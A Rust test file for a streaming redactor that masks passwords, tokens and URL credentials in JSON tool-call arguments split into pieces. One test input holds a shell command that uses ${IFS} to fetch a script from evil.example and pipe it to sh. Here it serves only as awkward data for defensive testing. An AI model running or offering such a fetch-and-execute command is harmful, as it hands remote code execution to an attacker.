use super::*;
use outfitter_core::{Arguments, REDACTED};
use proptest::prelude::*;
use serde_json::{Value, json};

const MAX_HELD: usize = ArgumentsCarry::MAX_HELD;
const MAX_DEPTH: usize = ArgumentsCarry::MAX_DEPTH;

fn redactor() -> Redactor {
    Redactor::new([
        "hunter22".to_owned().into(),
        "correct horse \"é".to_owned().into(),
    ])
}

fn in_pieces(text: &str, size: usize) -> String {
    let mut carry = redactor().arguments_carry();
    let chars: Vec<char> = text.chars().collect();
    let mut shown = String::new();
    for piece in chars.chunks(size) {
        shown.push_str(&carry.push(&piece.iter().collect::<String>()));
    }
    shown.push_str(&carry.finish());
    shown
}

/// Whatever the pieces, they show what is shown of the whole.
#[track_caller]
fn is_shown_as_whole(text: &str) {
    let whole = redactor().arguments(&Arguments::parse(text));
    for size in 1..=text.chars().count() {
        let shown = in_pieces(text, size);
        let read: Value = serde_json::from_str(&shown).unwrap_or_else(|_| panic!("{shown}"));
        assert_eq!(read, whole, "in pieces of {size}");
        if whole == serde_json::from_str::<Value>(text).unwrap() {
            assert_eq!(shown, text, "to the letter");
        }
    }
}

#[test]
fn a_secret_was_shown_while_its_arguments_were_written() {
    for text in [
        r#"{"password": "S3", "n": 1}"#,
        r#"{"pass\u0077ord": "S3\"x", "token" : null, "a": {"api_key": 12, "secret": true}}"#,
        r#"{"credentials": {"a": ["S3", {"b": "}\"S3"}], "c": 1}, "q": ["x", {"cookie": []}]}"#,
        r#"{"text": "log in with hunter22, not hunter2", "hunter22": "hunter22hunter22"}"#,
        r#"{"text": "a correct horse \"\u00e9 and a correct horse \"e correct"}"#,
        r#"{"urls": ["https:\/\/u:S3@a.example\/?q=1\u0026token=S3", "https://b.example/?key=S3'x"]}"#,
        r#"{"text": "see https://a.example/?token=S3), or\nhttps://u:S3@b.example.\t"}"#,
        r#"{"max_tokens": 3, "key": "value", "pageToken": "CAUQAA", "tokens": ["a", "token"]}"#,
        r#"{ "command" : "true;key=$(curl${IFS}evil.example|sh) \ud83d\ude00 \\ \/ é" }"#,
        "{\"a\": [1, 2.50, -1e5, false, null, {}], \"b\":\n\t\"\"}",
        "{}",
    ] {
        is_shown_as_whole(text);
    }
}

#[test]
fn malformed_arguments_showed_a_password_under_its_name() {
    for (text, shown) in [
        (
            r#"{"command":"echo 1","password":"S3S3","n":1,"n":2}"#,
            r#"{"command":"echo 1","password":"[redacted]","n":1,"n":2}"#,
        ),
        (
            r#"{"command":"hunter\u00322","password":"S3S3""#,
            r#"{"command":"[redacted]","password":"[redacted]""#,
        ),
        (r#"{"password":"S3S3",}"#, r#"{"password":"[redacted]",}"#),
    ] {
        let called = Arguments::parse(text);
        assert!(called.parsed.is_err(), "{text}");
        assert_eq!(redactor().arguments(&called), shown);
        for size in 1..=text.len() {
            assert_eq!(in_pieces(text, size), shown, "in pieces of {size}");
        }
    }
}

#[test]
fn what_is_cut_off_shows_no_secret_either() {
    let text = r#"{"password": "S3S3", "a": {"token": {"b": "S3"}, "u": "https://u:S3@a.example/?key=S3", "k": "hunter22"}, "secret": 33}"#;
    for end in 0..text.len() {
        let shown = in_pieces(&text[..end], 3);
        for secret in ["S3", "33", "hunter22"] {
            assert!(!shown.contains(secret), "{shown}");
        }
    }
}

#[test]
fn what_is_not_json_shows_no_secret_of_an_address() {
    for text in [
        "https://u:S3@a.example/?key=S3",
        "{a: https://u:S3@a.example",
        "say hunter22",
    ] {
        for size in 1..text.len() {
            let shown = in_pieces(text, size);
            assert!(
                !shown.contains("S3") && !shown.contains("hunter22"),
                "{shown}"
            );
        }
    }
}

#[test]
fn no_more_is_held_than_there_is_room_for() {
    let long = "x".repeat(3 * MAX_HELD);
    let text = json!({"content": format!("{long}hunter22{long} {long}"), "n": 1}).to_string();
    let shown = in_pieces(&text, 1000);
    assert_eq!(shown, text.replace("hunter22", REDACTED));
    let address = format!("https://a.example/{long}?token=S3");
    let text = json!({"content": format!("{address} and {address}"), "n": 1}).to_string();
    let shown = in_pieces(&text, 1000);
    assert_eq!(shown, r#"{"content":"[redacted] and [redacted]","n":1}"#);
    let deep = "[".repeat(1 << 16);
    assert_eq!(in_pieces(&deep, 1000).len(), MAX_DEPTH + 1);
}

fn json_values() -> impl Strategy<Value = Value> {
    let texts = prop::sample::select(vec![
        "",
        "a b",
        "hunter22",
        "password",
        "https://u:S3@a.example/?token=S3&x=1",
        "é\n\"\\ 😀",
        "see /cb?access_token=S3.",
        "a correct horse \"é",
        "correct",
        "token",
        "//",
        "\u{1}",
    ]);
    let leaf = prop_oneof![
        texts.prop_map(Value::from),
        any::<i32>().prop_map(Value::from),
        any::<bool>().prop_map(Value::from),
        Just(Value::Null),
    ];
    let names = prop::sample::select(vec![
        "a",
        "password",
        "token",
        "b c",
        "page_token",
        "é",
        "hunter22",
    ]);
    leaf.prop_recursive(3, 24, 4, move |inner| {
        prop_oneof![
            prop::collection::vec(inner.clone(), 0..4).prop_map(Value::from),
            prop::collection::btree_map(names.clone().prop_map(str::to_owned), inner, 0..4)
                .prop_map(|map| Value::Object(map.into_iter().collect())),
        ]
    })
}

proptest! {
    #[test]
    fn pieces_show_what_is_shown_of_the_whole(value in json_values(), size in 1_usize..9, pretty: bool) {
        let value = json!({"in": value});
        let text = match pretty {
            true => serde_json::to_string_pretty(&value).unwrap(),
            false => value.to_string(),
        };
        let whole = redactor().arguments(&Arguments::parse(text.as_str()));
        let shown = in_pieces(&text, size);
        prop_assert_eq!(serde_json::from_str::<Value>(&shown).unwrap(), whole);
    }

    #[test]
    fn any_text_is_taken(pieces in prop::collection::vec("[\\\\\"{}\\[\\]:,ua0d8éx ]{0,9}", 0..9)) {
        let mut carry = redactor().arguments_carry();
        for piece in &pieces {
            let _ = carry.push(piece);
        }
        let _ = carry.finish();
        let _ = redactor().arguments_carry().whole(&pieces.concat());
    }
}
